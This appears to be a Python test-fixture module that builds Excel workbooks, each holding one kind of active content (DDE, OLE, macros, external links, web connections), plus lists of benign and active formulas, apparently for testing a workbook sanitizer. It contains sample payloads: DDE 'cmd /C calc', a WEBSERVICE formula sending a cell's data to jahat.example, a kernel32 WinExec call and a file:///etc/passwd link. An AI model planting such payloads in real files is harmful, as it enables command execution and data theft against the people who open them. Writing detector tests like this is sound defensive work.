"""Workbooks that carry what acts by itself: one kind each, put into a package as Excel writes it."""

import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tests.package_builders import parts_of, rich_workbook, with_parts

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
SHEET, BOOK, DRAWING = "xl/worksheets/sheet2.xml", "xl/workbook.xml", "xl/drawings/drawing2.xml"
"""Parts of the rich workbook: the sheet that is marked, the workbook, the drawing with the chart of that sheet."""
_RELATIONS_PART = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'


@dataclass(frozen=True)
class Live:
    """What is put in: relations (source, type, target), parts, and texts replaced in parts (part, old, new). `marks`
    are texts and names of parts of which nothing may be left; `told` stands on the sheet Temuan."""

    told: str
    marks: tuple[str, ...]
    relations: tuple[tuple[str, str, str], ...] = ()
    parts: dict[str, str] = field(default_factory=dict)
    texts: tuple[tuple[str, str, str], ...] = ()

    def workbook(self, path: Path) -> Path:
        rich_workbook(path)
        for number, (source, kind, target) in enumerate(self.relations, start=90):
            folder, _, name = source.rpartition("/")
            part = f"{folder}/_rels/{name}.rels".lstrip("/")
            mode = ' TargetMode="External"' if "://" in target or target[0] in "\\." or ":" in target else ""
            entry = f'<Relationship Id="rId{number}" Type="{kind}" Target="{target}"{mode}/></Relationships>'
            _add(path, {part: parts_of(path).get(part, _RELATIONS_PART.encode()).decode()})
            with_parts(path, _replacing(part, "</Relationships>", entry))
        _add(path, self.parts)
        for part, old, new in self.texts:
            with_parts(path, _replacing(part, old, new))
        types = "".join(f'<Override PartName="/{name}" ContentType="application/xml"/>' for name in self.parts)
        return with_parts(path, _replacing("[Content_Types].xml", "</Types>", types + "</Types>"))


def _add(path: Path, parts: dict[str, str]) -> None:
    there = parts_of(path)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            if name not in there:
                package.writestr(name, content)


def _replacing(part: str, old: str, new: str) -> Callable[[str, bytes], bytes]:
    def change(name: str, content: bytes) -> bytes:
        assert name != part or old.encode() in content, f"{old} is not in {part}"
        return content.replace(old.encode(), new.encode(), 1) if name == part else content

    return change


def formula(text: str, name: str = "f", value: str = "7") -> Live:
    """In the cell B7 of the sheet."""
    new = f"<{name}>{text}</{name}><v>{value}</v>"
    return Live("rumus pada Data Ñusa's 2!B7", (text,), texts=((SHEET, "<f>SUM(B2:B6)</f><v>1500</v>", new),))


def _external(root: str) -> Live:
    told = {"ddeLink": "tautan DDE", "oleLink": "tautan OLE", "externalBook": "tautan ke buku kerja lain"}[root]
    inner = {
        "ddeLink": '<ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink>',
        "oleLink": f'<oleLink xmlns:r="{RELATIONS}" r:id="rId1" progId="Package"><oleItems/></oleLink>',
        "externalBook": f'<externalBook xmlns:r="{RELATIONS}" r:id="rId1"/>',
    }[root]
    reference = f'<externalReference xmlns:r="{RELATIONS}" r:id="rId90"/>'
    return Live(
        told,
        ("externalLink1", "externalReferences", "jahat.example"),
        relations=(
            (BOOK, f"{RELATIONS}/externalLink", "externalLinks/externalLink1.xml"),
            ("xl/externalLinks/externalLink1.xml", f"{RELATIONS}/externalLinkPath", "http://jahat.example/x.xlsx"),
        ),
        parts={"xl/externalLinks/externalLink1.xml": f"<externalLink {MAIN}>{inner}</externalLink>"},
        texts=((BOOK, "</sheets>", f"</sheets><externalReferences>{reference}</externalReferences>"),),
    )


def _hyperlink(target: str) -> Live:
    links = f'<hyperlinks><hyperlink xmlns:r="{RELATIONS}" ref="A2" r:id="rId90"/></hyperlinks><pageMargins'
    return Live(
        "tautan ke berkas atau program",
        (target, "<hyperlinks"),
        relations=((SHEET, f"{RELATIONS}/hyperlink", target),),
        texts=((SHEET, "<pageMargins", links),),
    )


def _of_sheet(told: str, kind: str, target: str, element: str) -> Live:
    """A relation of the sheet and the element that uses it."""
    return Live(
        told,
        (target.rpartition("/")[2], element.partition(" ")[0].strip("<>")),
        relations=((SHEET, kind, target),),
        parts={} if ":" in target else {"xl/" + target.removeprefix("../"): "isi"},
        texts=((SHEET, "</worksheet>", element + "</worksheet>"),),
    )


def _of_book(told: str, kind: str, target: str) -> Live:
    return Live(told, (target,), relations=((BOOK, kind, target),), parts={f"xl/{target}": "<isi/>"})


_LINKED = '<oleObject link="[1]!\'\'" oleUpdate="OLEUPDATE_ALWAYS" shapeId="9"/>'
_AUTO_OPEN = '<definedName name="_xlnm.Auto_Open" xlm="1">Mulai</definedName>'
_LED_AWAY = (
    *("file:///etc/passwd", "file://jahat/x.xlsx", "\\\\jahat\\x.xlsx", "..\\lain.xlsx", "javascript:alert(1)"),
    *("ms-excel:ofe|u|x", "search-ms:query=x"),
)

LIVE = {
    "DDE": _external("ddeLink"),
    "OLE link": _external("oleLink"),
    "other workbook": _external("externalBook"),
    "connection": Live(
        "sambungan data",
        ("connections", "jahat.example"),
        relations=((BOOK, f"{RELATIONS}/connections", "connections.xml"),),
        parts={
            "xl/connections.xml": f'<connections {MAIN}><connection id="1" name="w" type="4" refreshedVersion="0" '
            'refreshOnLoad="1"><webPr url="http://jahat.example/"/></connection></connections>'
        },
    ),
    "query table": Live(
        "tabel kueri",
        ("queryTable1",),
        relations=((SHEET, f"{RELATIONS}/queryTable", "../queryTables/queryTable1.xml"),),
        parts={"xl/queryTables/queryTable1.xml": f'<queryTable {MAIN} name="q" connectionId="1" refreshOnLoad="1"/>'},
    ),
    "real-time data": _of_book("data langsung (RTD)", f"{RELATIONS}/volatileDependencies", "volatileDependencies.xml"),
    "power query": _of_book("data XML tambahan", f"{RELATIONS}/customXml", "item1.xml"),
    "macros": _of_book("makro", f"{MICROSOFT}/2006/relationships/vbaProject", "vbaProject.bin"),
    "toolbar": _of_book("makro", f"{RELATIONS}/attachedToolbars", "attachedToolbars.bin"),
    "shared history": _of_book("riwayat perubahan", f"{RELATIONS}/revisionHeaders", "revisionHeaders.xml"),
    "customUI": Live(
        "tombol buatan sendiri (customUI)",
        ("customUI",),
        relations=(("", f"{MICROSOFT}/2006/relationships/ui/extensibility", "customUI/customUI.xml"),),
        parts={"customUI/customUI.xml": '<customUI onLoad="Mulai"/>'},
    ),
    "add-in": Live(
        "add-in web",
        ("taskpanes",),
        relations=(("", f"{MICROSOFT}/2011/relationships/webextensiontaskpanes", "xl/webextensions/taskpanes.xml"),),
        parts={"xl/webextensions/taskpanes.xml": "<taskpanes/>"},
    ),
    "embedded object": _of_sheet(
        "objek tertanam (OLE)",
        f"{RELATIONS}/oleObject",
        "../embeddings/oleObject1.bin",
        f'<oleObjects><oleObject progId="Package" shapeId="9" xmlns:r="{RELATIONS}" r:id="rId90"/></oleObjects>',
    ),
    "linked object": Live(
        "objek tertanam (OLE)",
        ("oleObject",),
        texts=((SHEET, "</worksheet>", f"<oleObjects>{_LINKED}</oleObjects></worksheet>"),),
    ),
    "ActiveX": _of_sheet(
        "kontrol ActiveX",
        f"{RELATIONS}/control",
        "../activeX/activeX1.xml",
        f'<controls><control shapeId="9" xmlns:r="{RELATIONS}" r:id="rId90" name="Tombol"/></controls>',
    ),
    "web publishing": Live(
        "terbitan web",
        ("webPublish", "jahat"),
        texts=(
            (
                SHEET,
                "</worksheet>",
                '<webPublishItems count="1"><webPublishItem id="1" divId="d" sourceType="sheet" '
                'destinationFile="\\\\jahat\\x.htm" autoRepublish="1"/></webPublishItems></worksheet>',
            ),
        ),
    ),
    "picture from outside": Live(
        "isi dari luar berkas",
        ("jahat.example",),
        relations=((DRAWING, f"{RELATIONS}/image", "http://jahat.example/lacak.png"),),
    ),
    "macro of a shape": Live("makro", ("Mulai",), texts=((DRAWING, 'macro=""', 'macro="[0]!Mulai"'),)),
    "macro of a name": Live(
        "makro",
        ("Auto_Open", "Mulai"),
        texts=((BOOK, "<definedNames>", f"<definedNames>{_AUTO_OPEN}"),),
    ),
    "name of another workbook": Live(
        "rujukan ke luar berkas",
        ("[1]Rahasia",),
        texts=((BOOK, "<definedNames>", '<definedNames><definedName name="Luar">[1]Rahasia!$A$1</definedName>'),),
    ),
    "chart of another workbook": Live(
        "rujukan ke luar berkas",
        ("[1]Rahasia",),
        texts=(("xl/charts/chart1.xml", "<c:f>", "<c:f>[1]Rahasia!$A$1</c:f><c:f>"),),
    ),
    "condition of another workbook": Live(
        "rujukan ke luar berkas",
        ("[1]Rahasia",),
        texts=((SHEET, "<formula1>0</formula1>", "<formula1>[1]Rahasia!A1</formula1>"),),
    ),
    "loose part": Live("bagian yang tidak dipakai", ("lepas",), parts={"xl/embeddings/lepas.bin": "isi"}),
    "WEBSERVICE": formula("_xlfn.WEBSERVICE(&quot;http://jahat.example/&quot;&amp;A1)"),
    "formula in CDATA": formula("<![CDATA[_xlfn.WEBSERVICE(A1)]]>"),
    "DDE formula": formula("cmd|'/C calc'!A0"),
    **{f"link {target}": _hyperlink(target) for target in _LED_AWAY},
}

COMPUTING = (
    "SUM(B2:B6)",
    'IF(C2>B2,"ya, \'betul\'","tidak | [1]x!")',
    "'Pak''s Data'!B2+Penerima!$C$3",
    'Tabel1[Jumlah (Rp)]+Tabel1[[#This Row],[a "b"]]',
    "SUM(Lembar1:Lembar3!A1)",
    "_xlfn.XLOOKUP(A1,B:B,C:C)",
    "_xlfn._xlws.FILTER(A1:A9,B1:B9=1)",
    'HYPERLINK("#Penerima!A1","ke sana")',
    'HYPERLINK("https://spm.example")',
    "INDEX(Sasaran,MATCH(1,A:A,0))",
    "_xlfn.LET(_xlpm.x,1,_xlpm.x+2)",
)
ACTING = (
    "[1]Penerima!A1",
    "[1]!Nama",
    "'[1]Data lain'!A1",
    "SUM([12]Data.2024!$A$1:$A$9)",
    "'C:\\data\\[x.xlsx]Penerima'!A1",
    "'\\\\jahat\\x.xlsx'!Nama",
    "cmd|'/C calc'!A0",
    'WEBSERVICE("http://x")',
    "webservice (A1)",
    'Tabel[a"b]&WEBSERVICE("x")',
    'IF(1,"a",_xlfn.WEBSERVICE(A1))',
    'HYPERLINK("http://x/?"&A1,"klik")',
    "HYPERLINK(A1)",
    'HYPERLINK("\\\\jahat\\x","klik")',
    '_xlfn.IMAGE("http://x")',
    'RTD("server","","x")',
    'CUBEVALUE("x")',
    'CALL("kernel32","WinExec","JC","calc",1)',
    'REGISTER.ID("x","y")',
    "_xlws.PY(1,0)",
    "FungsiSendiri(A1)",
    "_xlfn.MAP(A1:A3,_xleta.WEBSERVICE)",
    'SQL.REQUEST("x")',
)
